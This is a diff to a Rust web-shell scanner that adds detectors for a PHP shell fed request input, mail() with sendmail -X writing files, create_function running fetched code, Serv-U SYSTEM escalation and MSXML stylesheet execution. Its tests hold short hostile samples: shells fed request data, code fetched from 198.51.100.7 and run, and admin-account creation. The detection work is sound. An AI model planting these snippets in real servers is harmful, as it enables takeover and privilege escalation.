@@ -953,6 +953,8 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
     // The words seen in the statements walked so far: the whole file's once the walk ends.
     let mut seen = Held::default();
     let mut lines_read = 0;
+    // A shell started with no command (`popen('/bin/sh', 'w')`): what is written to it runs.
+    let bare_shell = bare_shell_opened(t);
     for (n, s) in php_statements(t).enumerate() {
         if n % 4096 == 4095 && late() {
             return false;
@@ -1165,6 +1167,25 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
                 ));
                 return true;
             }
+        }
+        // `fwrite($pipes[0], file_get_contents('php://input'))` to that shell.
+        if let Some(shell) = bare_shell
+            && !commented
+            && let Some(write) = ["fwrite(", "fputs("].iter().find(|w| contains_call(s, w))
+            && let Some(p) = find_all(s, write).find(|&p| plain_name_at(s, p))
+            && let Some(args) = crate::php_tricks::arguments(near(&s[p + write.len() - 1..], 4096))
+            && let Some(data) = args.get(1)
+            && (PHP_INPUT.iter().any(|i| data.contains(i))
+                || composes_input(data, &tainted, &composed))
+        {
+            hits.push(hit(
+                "scan.heuristic.input_to_exec",
+                Severity::Critical,
+                "Request input passed to code or command execution",
+                format!("request input is written (`{}…)`) to the standard input of `{shell}`, started with no command of its own: the shell runs whatever the request sends", write.trim_end_matches('(')),
+                here,
+            ));
+            return true;
         }
         // A statement that defines a function named like a sink is not a call of it.
         let sink = called.and_then(|first| {
@@ -1388,10 +1409,16 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
     crate::php_tricks::scan(t, hits);
     capabilities(t, seen, hits);
     exec_fallbacks(t, hits);
+    mail_log_write(t, hits);
     php_reverse_shell(t, hits);
     // `://` also where the scheme is split: `'ht' . 'tp://…'`. Most files name a URL in a
     // comment: only those that include, or evaluate and fetch, are read further.
-    let evaluates = seen.has(EVAL_WORD) || seen.has(ASSERT_WORD);
+    let evaluates = seen.has(EVAL_WORD)
+        || seen.has(ASSERT_WORD)
+        || PHP_EXEC
+            .iter()
+            .position(|e| *e == "create_function(")
+            .is_some_and(|k| seen.has(EXEC_WORDS + k));
     if find(t, "://").is_some()
         && (seen.any(INCLUDE_WORDS..INCLUDE_WORDS + 2)
             || evaluates
@@ -1695,11 +1722,18 @@ fn remote_code(t: &str, evaluates: bool, hits: &mut Vec<Hit>) {
                 fetched.push(var);
             }
         }
-        let Some(arg) = ["eval(", "assert("].iter().find_map(|e| {
-            find_all(s, e)
-                .find(|&p| plain_name_at(s, p))
-                .map(|p| &s[p + e.len()..])
-        }) else {
+        let Some(arg) = ["eval(", "assert(", "create_function("]
+            .iter()
+            .find_map(|e| {
+                let p = find_all(s, e).find(|&p| plain_name_at(s, p))?;
+                if *e != "create_function(" {
+                    return Some(&s[p + e.len()..]);
+                }
+                // `create_function('', $code)`: the body is the second argument.
+                crate::php_tricks::arguments(near(&s[p + e.len() - 1..], 4096))
+                    .and_then(|args| args.get(1).copied())
+            })
+        else {
             continue;
         };
         // `eval('?>' . $code)`: any part of what is evaluated, the variable whole, not a test
@@ -1907,6 +1941,40 @@ const COMMAND_FUNCTIONS: &[&str] = &[
     "proc_open",
     "pcntl_exec",
 ];
+
+/// `mail('', '', $code, '', '-X /var/www/x.php')`: the fifth argument is handed to sendmail,
+/// whose `-X` writes a log of the whole conversation (the message, PHP in it too) to that
+/// path, and whose `-C` and `-OQueueDirectory` move its configuration and queue: a way to
+/// write a page where `file_put_contents` is watched or disabled. Mail code passes `-f`.
+fn mail_log_write(t: &str, hits: &mut Vec<Hit>) {
+    for p in find_all(t, "mail(").take(1000) {
+        if !plain_name_at(t, p) {
+            continue;
+        }
+        let Some(args) = crate::php_tricks::arguments(near(&t[p + 4..], 4096)) else {
+            continue;
+        };
+        let Some(extra) = args.get(4) else { continue };
+        let flag = ["-x", "-c", "-oqueuedirectory"].iter().find(|f| {
+            find_all(extra, f).take(16).any(|q| {
+                let before = extra[..q].chars().next_back();
+                let after = extra[q + f.len()..].chars().next();
+                matches!(before, Some('\'' | '"' | ' '))
+                    && after.is_some_and(|c| matches!(c, ' ' | '/' | '.' | '=' | '\'' | '"'))
+            })
+        });
+        if let Some(flag) = flag {
+            hits.push(hit(
+                "scan.heuristic.mail_file_write",
+                Severity::High,
+                "mail() makes sendmail write a file",
+                format!("the fifth argument of `mail()` passes `{}` to sendmail, which writes its log or reads its configuration at a path the script chooses: the message, with any PHP in it, lands as a file (a page written without `file_put_contents`)", flag.to_uppercase().replace("-OQUEUEDIRECTORY", "-OQueueDirectory")),
+                p,
+            ));
+            return;
+        }
+    }
+}
 
 /// `if (function_exists('exec')) … elseif (function_exists('shell_exec')) … elseif
 /// (is_callable('system'))`: asking which of several command functions the host left enabled,
@@ -2265,6 +2333,69 @@ fn jsp(t: &str, hits: &mut Vec<Hit>) {
             hits.push(h);
         }
     }
+}
+
+/// The shell a PHP file starts with no command of its own (`popen('/bin/sh', 'w')`,
+/// `proc_open('bash -i', …)`, `proc_open(['cmd.exe'], …)`), which reads its commands from
+/// the pipe. Programs given a command or arguments (`popen('/usr/sbin/sendmail -t', 'w')`,
+/// `sh -c …`) are not.
+fn bare_shell_opened(t: &str) -> Option<&'static str> {
+    const SHELLS: &[&str] = &[
+        "sh",
+        "bash",
+        "dash",
+        "zsh",
+        "ksh",
+        "ash",
+        "csh",
+        "tcsh",
+        "cmd",
+        "cmd.exe",
+        "powershell",
+        "powershell.exe",
+        "pwsh",
+    ];
+    for call in ["popen(", "proc_open("] {
+        for p in find_all(t, call).take(100) {
+            if !plain_name_at(t, p) {
+                continue;
+            }
+            let Some(args) = crate::php_tricks::arguments(near(&t[p + call.len() - 1..], 1024))
+            else {
+                continue;
+            };
+            let Some(first) = args.first() else { continue };
+            let first = first.trim();
+            let first = first
+                .strip_prefix("array(")
+                .or_else(|| first.strip_prefix('['))
+                .unwrap_or(first)
+                .trim_start();
+            let Some(quote) = first.chars().next().filter(|c| matches!(c, '\'' | '"')) else {
+                continue;
+            };
+            let body = &first[1..];
+            let Some(end) = body.find(quote) else {
+                continue;
+            };
+            let mut words = body[..end].split_whitespace();
+            let Some(program) = words.next() else {
+                continue;
+            };
+            let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
+            let Some(shell) = SHELLS.iter().find(|s| **s == name) else {
+                continue;
+            };
+            let flags_only = words.all(|w| {
+                (w.starts_with('-') || w.starts_with('/'))
+                    && !matches!(w, "-c" | "/c" | "/k" | "-command" | "-encodedcommand")
+            });
+            if flags_only {
+                return Some(shell);
+            }
+        }
+    }
+    None
 }
 
 /// `Runtime rt = Runtime.getRuntime(); … rt.exec(…)`: where the runtime, kept in a variable,
@@ -2667,6 +2798,15 @@ fn asp_fixed(t: &str, hits: &mut Vec<Hit>) {
             p,
         ));
     }
+    if let Some(p) = msxml_request_stylesheet(t) {
+        hits.push(hit(
+            "scan.heuristic.asp_xslt_exec",
+            Severity::Critical,
+            "ASP runs an XSLT stylesheet from the request",
+            "the page loads a stylesheet from request input into an MSXML document and transforms with it (`transformNode`): MSXML 3 runs the stylesheet's `msxsl:script` blocks, so the request's script runs on the server".into(),
+            p,
+        ));
+    }
     // `Assembly.Load(bytes)`, or the same through the application domain; not of a name
     // (`Assembly.Load("System.Web")`). Any request input counts: headers and cookies carry
     // the bytes as well as the body.
@@ -2686,6 +2826,78 @@ fn asp_fixed(t: &str, hits: &mut Vec<Hit>) {
             p,
         ));
     }
+}
+
+/// `Response.Write xml.transformNode(xsl)` where `xsl.loadXML Request("x")` (or `.load` of a
+/// variable set from the request): the stylesheet, not only the data, is the request's.
+/// A page that renders posted XML with its own stylesheet loads the request into the other
+/// document.
+fn msxml_request_stylesheet(t: &str) -> Option<usize> {
+    fn ident(s: &str) -> &str {
+        let s = s.trim_start();
+        let n = s
+            .find(|c: char| !crate::flows::is_ident(c))
+            .unwrap_or(s.len());
+        &s[..n]
+    }
+    let from_request = |s: &str| crate::flows::ASP_INPUT.iter().any(|i| s.contains(i));
+    // The documents transformed with (the first 64 names).
+    let mut sheets: Vec<&str> = Vec::new();
+    for p in find_all(t, ".transformnode").take(10_000) {
+        let rest = &t[p + ".transformnode".len()..];
+        let rest = rest.strip_prefix("toobject").unwrap_or(rest);
+        if let Some(arg) = rest.trim_start().strip_prefix('(')
+            && let sheet = ident(arg)
+            && !sheet.is_empty()
+            && !sheets.contains(&sheet)
+            && sheets.len() < 64
+        {
+            sheets.push(sheet);
+        }
+    }
+    if sheets.is_empty() {
+        return None;
+    }
+    // Then each load, in one pass: what one of them is loaded from.
+    let mut variables_read = 0;
+    for q in find_all(t, ".load").take(10_000) {
+        let before = &t[..q];
+        let object = &before[before
+            .rfind(|c: char| !crate::flows::is_ident(c))
+            .map_or(0, |i| i + 1)..];
+        if !sheets.contains(&object) {
+            continue;
+        }
+        let rest = &t[q + ".load".len()..];
+        let rest = rest.strip_prefix("xml").unwrap_or(rest);
+        if !rest.starts_with([' ', '(', '\t']) {
+            continue;
+        }
+        let line = near(rest, 512);
+        let line = line[..line.find(['\n', ':']).unwrap_or(line.len())].trim_start();
+        let line = line.strip_prefix('(').unwrap_or(line);
+        if from_request(line) {
+            return Some(q - object.len());
+        }
+        // Or a variable set from the request in the 64 KiB before (the first 16 read).
+        let held = ident(line);
+        if held.is_empty() || variables_read == 16 {
+            continue;
+        }
+        variables_read += 1;
+        let window = &t[t.floor_char_boundary(q.saturating_sub(65_536))..q];
+        let set = find_all(window, held).take(100).any(|v| {
+            plain_name_at(window, v)
+                && window[v + held.len()..]
+                    .trim_start_matches([' ', '\t'])
+                    .strip_prefix('=')
+                    .is_some_and(|rhs| from_request(near(rhs, 128).lines().next().unwrap_or("")))
+        });
+        if set {
+            return Some(q - object.len());
+        }
+    }
+    None
 }
 
 /// A long unbroken run of base64 or hex in a server script, worse when the script also
@@ -2768,6 +2980,22 @@ fn windows_backdoors(t: &str, hits: &mut Vec<Hit>) {
             at,
         );
         h.attack.push("T1136.001".into());
+        hits.push(h);
+    }
+    // Serv-U's local administration port, spoken to from the page: `SITE MAINTENANCE` then
+    // `-SETUSERSETUP` makes an FTP account that runs commands as SYSTEM (`-Maintenance=System`),
+    // the privilege escalation bundled in ASP and PHP toolkits. Only the tool speaks it.
+    if let Some(at) = find(t, "-setusersetup")
+        && find(t, "site maintenance").is_some()
+    {
+        let mut h = hit(
+            "scan.heuristic.servu_escalation",
+            Severity::High,
+            "Page makes a Serv-U account that runs as SYSTEM",
+            "the page sends Serv-U's local administration commands (`SITE MAINTENANCE`, `-SETUSERSETUP`): an FTP account with system maintenance rights, whose `SITE EXEC` runs commands as SYSTEM".into(),
+            at,
+        );
+        h.attack.push("T1068".into());
         hits.push(h);
     }
     if let Some(at) = find(t, "fdenytsconnections")
@@ -3276,6 +3504,15 @@ mod tests {
                 "<?php\n$cmd = <<<CMD\n{$_POST['q']} 2>&1\nCMD;\necho shell_exec($cmd);",
                 "scan.heuristic.input_to_exec",
             ),
+            // A shell started bare, fed the request on its standard input.
+            (
+                "<?php $fp = popen('/bin/sh', 'w');\nfwrite($fp, $_REQUEST['q'] . \"\\n\");\npclose($fp);",
+                "scan.heuristic.input_to_exec",
+            ),
+            (
+                "<?php $p = proc_open(['bash', '-s'], [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $pipes);\nfwrite($pipes[0], file_get_contents('php://input'));",
+                "scan.heuristic.input_to_exec",
+            ),
             (
                 "<?php $q = $_GET['q'];\n$c = <<<\"EOT\"\n    ls $q\n    EOT;\nsystem($c);",
                 "scan.heuristic.input_to_exec",
@@ -3348,6 +3585,14 @@ mod tests {
                 "<?php\n$remote = 'ht' . 'tp://198.51.100.7/s.txt';\ninclude $remote;",
                 "scan.heuristic.remote_code",
             ),
+            (
+                "<?php @mail('', '', '', '', '-OQueueDirectory=/tmp -X/var/www/html/' . $_GET['n'] . '.php');",
+                "scan.heuristic.mail_file_write",
+            ),
+            (
+                "<?php\n$u = 'http://198.51.100.7/p.txt';\n$code = @file_get_contents($u);\n$fn = create_function('', $code);\n$fn();",
+                "scan.heuristic.remote_code",
+            ),
         ];
         for (page, check) in flagged {
             assert_eq!(ids(ScriptKind::Php, page), [check], "{page}");
@@ -3370,12 +3615,19 @@ mod tests {
             // A getter's value shown; a getter of the page's own settings run.
             "<?php function get($k) { return $_GET[$k] ?? ''; }\necho htmlspecialchars(get('q'));",
             "<?php function opt($k) { return $GLOBALS['conf'][$k]; }\nsystem(opt('backup_cmd'));",
+            // The form written to sendmail's input; a fixed script written to a shell.
+            "<?php $m = popen('/usr/sbin/sendmail -t -i', 'w');\nfputs($m, \"To: a@example.org\\n\\n\" . $_POST['body']);",
+            "<?php $sh = popen('/bin/sh', 'w');\nfwrite($sh, \"cd /var/cache/app && find . -mtime +7 -delete\\n\");\n$n = $_GET['n'];",
             // An array literal of fixed values, extracted.
             "<?php $cfg = ['h' => 'strtoupper', 'a' => 'x'];\nextract($cfg);\necho $h($a);",
             // Escaped input as one argument of a program, not a shell's command line.
             "<?php $f = $_GET['f'];\nexec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');",
             // A fetched page tested, shown or included from the application's own files.
             "<?php $page = file_get_contents('https://api.example.org/v1');\nassert($page !== false);\necho htmlspecialchars($page);",
+            // A sender set with `-f`, and a mailer's method named mail().
+            "<?php mail($to, $subject, $body, $headers, '-f' . $from);",
+            "<?php $mailer->mail($to, $s, $b, $h, '-X /tmp/x.log');",
+            "<?php $page = file_get_contents('https://api.example.org/v1');\n$cmp = create_function('$a,$b', 'return strcmp($a, $b);');\necho $page;",
             "<?php include 'lib/http.php'; $u = 'https://example.org/'; echo file_get_contents($u);",
         ];
         for page in quiet {
@@ -3388,11 +3640,18 @@ mod tests {
     fn administrator_accounts_and_remote_desktop() {
         let adsi = "<%\nSet nt = GetObject(\"WinNT://\" & Request.ServerVariables(\"SERVER_NAME\"))\nSet u = nt.Create(\"user\", Request(\"u\"))\nu.SetPassword Request(\"p\")\nu.SetInfo\nSet g = GetObject(\"WinNT://./Administrators,group\")\ng.Add u.ADsPath\n%>";
         let net = "<?php if ($_POST['go']) { system('net user support P@ss1 /add'); system('net localgroup administrators support /add'); }";
+        let servu = "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"POST\", \"http://127.0.0.1:43958/\", False\nx.Send \"USER LocalAdministrator\" & vbCrLf & \"SITE MAINTENANCE\" & vbCrLf & \"-SETUSERSETUP\" & vbCrLf & \"-Maintenance=System\"\n%>";
+        // MSXML transforms with a stylesheet from the request, directly or through a variable.
+        let xsl = "<%\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\nd.loadXML \"<r/>\"\ns.loadXML Request.Form(\"x\")\nResponse.Write d.transformNode(s)\n%>";
+        let xsl_var = "<%\nx = Request(\"x\")\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\ns.loadXML(x)\nResponse.Write d.transformNode(s)\n%>";
         let rdp = "<%@ Page Language=\"C#\" %><% Microsoft.Win32.Registry.LocalMachine.OpenSubKey(@\"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\", true).SetValue(\"fDenyTSConnections\", 0); %>";
         for (kind, page, check) in [
             (ScriptKind::Asp, adsi, "scan.heuristic.windows_account"),
             (ScriptKind::Php, net, "scan.heuristic.windows_account"),
             (ScriptKind::Asp, rdp, "scan.heuristic.rdp_enable"),
+            (ScriptKind::Asp, servu, "scan.heuristic.servu_escalation"),
+            (ScriptKind::Asp, xsl, "scan.heuristic.asp_xslt_exec"),
+            (ScriptKind::Asp, xsl_var, "scan.heuristic.asp_xslt_exec"),
         ] {
             assert!(
                 ids(kind, page).contains(&check),
@@ -3406,6 +3665,9 @@ mod tests {
             "<% for each obj in getObject(\"WinNT://.\") : Response.Write obj.Name : next %>",
             "<% bad = \"xp_cmdshell|net user|net localgroup administrators|exec\" %>",
             "<% Set s = CreateObject(\"WScript.Shell\") : Response.Write s.RegRead(\"HKLM\\...\\fDenyTSConnections\") %>",
+            // Posted XML shown with the site's own stylesheet; an FTP client's own commands.
+            "<%\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\nd.loadXML Request.Form(\"x\")\ns.load Server.MapPath(\"view.xsl\")\nResponse.Write d.transformNode(s)\n%>",
+            "<% ftp.Send \"SITE CHMOD 644 \" & Request(\"f\") %>",
         ];
         for page in quiet {
             assert!(
